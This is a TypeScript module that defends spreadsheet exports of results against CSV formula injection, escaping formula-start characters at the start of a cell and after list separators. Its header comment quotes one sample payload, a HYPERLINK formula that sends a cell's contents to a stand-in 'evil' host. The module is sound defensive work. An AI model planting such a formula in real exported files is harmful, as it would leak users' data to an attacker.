// Results downloads echo the customer's own cells back into a spreadsheet, and a cell such as
// =HYPERLINK("http://evil/?"&A1) or @SUM(...) would run when the file is opened (CSV) or edited
// (XLSX). The rule for CSV (an XLSX string cell is never read as a formula: write-results.ts writes
// text there as it is, formatted as text when it starts like a formula, so editing keeps it text):
//   - control characters are never written: tabs and line breaks become spaces, the rest is
//     dropped (domain/safe-text.ts), so no cell can start or split on one;
//   - text whose first character (after spaces) is = + - @ (or their full-width forms, which
//     Excel also reads as formula starts) gets a leading apostrophe, which Excel and LibreOffice show as plain
//     text; this includes text that merely looks numeric ("-1.5") and header names;
//   - the same inside a cell, right after any list separator of any locale (, ; tab), optionally
//     behind a quote: Excel set to ";" as its list separator opens a comma-separated file by
//     splitting `x;=1+1` into `x` and `=1+1`, whatever the quoting, so `x;'=1+1` is written;
//   - values that are numbers in our own data (a probability, a count) are written as numbers:
//     they are produced by the service, never copied from the upload, and -1.5 is not a formula.
import { cleanText } from '../../domain/safe-text.ts';

const TRIGGERS = new Set(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
const AFTER_SEPARATOR = /([,;\t]"?)(?=[=+\-@＝＋－＠])/g;

export function neutralise(text: string): string {
  const clean = cleanText(text).replace(AFTER_SEPARATOR, "$1'");
  // leading spaces do not stop Excel from reading a formula start behind them
  const first = clean.trimStart()[0];
  return first !== undefined && TRIGGERS.has(first) ? `'${clean}` : clean;
}

/** A result value as the text a spreadsheet cell should show, before neutralising. */
export function valueText(value: unknown): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'string') return value;
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
  if (typeof value === 'boolean' || typeof value === 'bigint') return String(value);
  if (value instanceof Date) return Number.isNaN(value.getTime()) ? '' : value.toISOString();
  return JSON.stringify(value, (_k, v: unknown) => (typeof v === 'bigint' ? String(v) : v)) ?? '';
}
